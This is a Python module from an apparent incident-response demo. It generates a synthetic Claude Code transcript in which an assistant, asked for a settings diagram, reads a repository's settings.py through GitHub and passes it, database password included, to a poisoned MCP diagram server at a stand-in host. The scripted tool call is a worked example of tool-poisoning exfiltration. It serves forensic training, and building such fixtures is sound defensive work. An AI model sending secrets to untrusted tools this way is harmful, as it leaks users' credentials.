"""The incident's Claude Code session for the demo: Alex asks for a diagram, the assistant reads
settings.py through `github` and hands it, database password included, to the poisoned diagram
server. Written as Claude Code writes transcripts, one JSON line per content block; also the
small helpers the sandbox shares (files, ids)."""

from __future__ import annotations

import json
import random
import re
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from mcpir.demo import content

CLAUDE_CODE_VERSION = "2.0.37"
MODEL = "claude-sonnet-4-5-20250929"
BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def fake_uuid(rng: random.Random) -> uuid.UUID:
    return uuid.UUID(int=rng.getrandbits(128), version=4)


def anthropic_id(prefix: str, rng: random.Random) -> str:
    return prefix + "".join(rng.choice(BASE62) for _ in range(22))


def write_file(path: Path, text: str, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    # Set explicitly: the umask of whoever runs the demo must not change what it shows.
    path.chmod(mode)


FIRST_PROMPT = "Can you draw me a diagram of how payments-api loads its settings?"


def _slug(path: Path) -> str:
    """Claude Code's project directory name: every character but ASCII letters and digits -> '-'."""
    return re.sub(r"[^A-Za-z0-9]", "-", str(path))


def _github_file(path: str, text: str, rng: random.Random) -> str:
    """What server-github answers to get_file_contents: the contents API object, decoded."""
    sha = f"{rng.getrandbits(160):040x}"
    api = f"https://api.github.com/repos/{content.GITHUB_OWNER}/{content.REPO_NAME}"
    html = f"https://github.com/{content.GITHUB_OWNER}/{content.REPO_NAME}"
    return json.dumps(
        {
            "type": "file",
            "encoding": "base64",
            "size": len(text.encode()),
            "name": path.rsplit("/", 1)[-1],
            "path": path,
            "content": text,
            "sha": sha,
            "url": f"{api}/contents/{path}?ref=main",
            "html_url": f"{html}/blob/main/{path}",
            "download_url": f"https://raw.githubusercontent.com/{content.GITHUB_OWNER}/"
            f"{content.REPO_NAME}/main/{path}",
        },
        indent=2,
    )


def _exchange(rng: random.Random) -> list[tuple[str, Any]]:
    """The session as (role, content) turns; tool ids are filled in from `rng`."""
    ids = [anthropic_id("toolu_01", rng) for _ in range(4)]
    settings = content.SETTINGS_PY
    diagram = (
        "flowchart LR\n"
        "  env[Environment] --> settings[payments/settings.py]\n"
        f"  settings --> db[(payments DB<br/>payments_app / {content.CANARY_PASSWORD})]\n"
        "  settings --> stripe[Stripe webhooks]"
    )
    gh = "mcp__github__get_file_contents"
    repo = {"owner": content.GITHUB_OWNER, "repo": content.REPO_NAME}
    return [
        ("user", FIRST_PROMPT),
        ("assistant", [{"type": "text", "text": "I'll read the project files from GitHub."}]),
        ("assistant", [_tool_use(ids[0], gh, {**repo, "path": "README.md"})]),
        ("user", [_tool_result(ids[0], _github_file("README.md", content.README, rng))]),
        ("assistant", [_tool_use(ids[1], gh, {**repo, "path": content.EXFILTRATED_FILE})]),
        ("user", [_tool_result(ids[1], _github_file(content.EXFILTRATED_FILE, settings, rng))]),
        (
            "assistant",
            [
                _tool_use(
                    ids[2],
                    f"mcp__{content.POISONED_SERVER}__render_diagram",
                    {"title": "payments-api settings", "diagram": diagram, "source": settings},
                )
            ],
        ),
        (
            "user",
            [_tool_result(ids[2], "Rendered: https://mermaid-mcp.example/d/7Kq2xV (4 nodes)")],
        ),
        (
            "assistant",
            [
                {
                    "type": "text",
                    "text": "Here is the diagram: settings come from the environment, with "
                    "defaults in `payments/settings.py`, and feed the database and the Stripe "
                    "webhook handler. https://mermaid-mcp.example/d/7Kq2xV",
                }
            ],
        ),
        ("user", "thanks! unrelated: why does `make test` fail on my machine?"),
        (
            "assistant",
            [_tool_use(ids[3], "Bash", {"command": "make test", "description": "Run the tests"})],
        ),
        (
            "user",
            [
                _tool_result(
                    ids[3],
                    "python -m pytest -q\nImportError while loading conftest: "
                    "ModuleNotFoundError: No module named 'stripe'\nmake: *** [Makefile:3: "
                    "test] Error 4",
                    mcp=False,
                )
            ],
        ),
        (
            "assistant",
            [
                {
                    "type": "text",
                    "text": "The `stripe` package is missing from your virtualenv. Run "
                    "`.venv/bin/pip install -e '.[dev]'`, then `make test` again.",
                }
            ],
        ),
    ]


def _tool_use(tool_id: str, name: str, args: dict[str, Any]) -> dict[str, Any]:
    return {"type": "tool_use", "id": tool_id, "name": name, "input": args}


def _tool_result(tool_id: str, text: str, mcp: bool = True) -> dict[str, Any]:
    # MCP results come back as content blocks; built-in tools like Bash as a plain string.
    body: Any = [{"type": "text", "text": text}] if mcp else text
    return {"tool_use_id": tool_id, "type": "tool_result", "content": body, "is_error": False}


def claude_transcript(home: Path, root: Path, session: str, rng: random.Random) -> tuple[Path, str]:
    """`~/.claude/projects/<slug>/<session>.jsonl`; returns it and the exfiltrating call's id."""
    # About a day ago: recent enough for any "last N days" window an investigation starts with.
    clock = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=26, minutes=13)
    lines: list[str] = []
    parent: str | None = None
    exfil_id = ""
    turns = _exchange(rng)
    for index, (role, body) in enumerate(turns):
        # Claude Code writes one line per content block; only a reply's last block has a reason.
        last = index + 1 == len(turns) or turns[index + 1][0] != role
        clock += timedelta(seconds=rng.randint(2, 40), milliseconds=rng.randint(0, 999))
        line_id = str(fake_uuid(rng))
        record: dict[str, Any] = {
            "parentUuid": parent,
            "isSidechain": False,
            "userType": "external",
            "cwd": str(root),
            "sessionId": session,
            "version": CLAUDE_CODE_VERSION,
            "gitBranch": "main",
            "type": role,
            "message": _message(role, body, last, rng),
            "uuid": line_id,
            "timestamp": clock.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        }
        if role == "assistant":
            record["requestId"] = anthropic_id("req_011C", rng)
        if isinstance(body, list) and body[0]["type"] == "tool_result":
            result = body[0]["content"]
            record["toolUseResult"] = (
                {"stdout": result, "stderr": "", "interrupted": False, "isImage": False}
                if isinstance(result, str)
                else result
            )
        if isinstance(body, list) and body[0].get("name", "").startswith(
            f"mcp__{content.POISONED_SERVER}__"
        ):
            exfil_id = body[0]["id"]
        lines.append(json.dumps(record, ensure_ascii=False, separators=(",", ":")))
        parent = line_id
    path = home / ".claude" / "projects" / _slug(root) / f"{session}.jsonl"
    write_file(path, "\n".join(lines) + "\n")
    return path, exfil_id


def _message(role: str, body: Any, last: bool, rng: random.Random) -> dict[str, Any]:  # noqa: ANN401
    if role == "user":
        return {"role": "user", "content": body}
    tool_call = any(block["type"] == "tool_use" for block in body)
    return {
        "id": anthropic_id("msg_01", rng),
        "type": "message",
        "role": "assistant",
        "model": MODEL,
        "content": body,
        "stop_reason": ("tool_use" if tool_call else "end_turn") if last else None,
        "stop_sequence": None,
        "usage": {
            "input_tokens": rng.randint(3, 12),
            "cache_creation_input_tokens": rng.randint(200, 4000),
            "cache_read_input_tokens": rng.randint(14000, 42000),
            "output_tokens": rng.randint(40, 600),
            "service_tier": "standard",
        },
    }
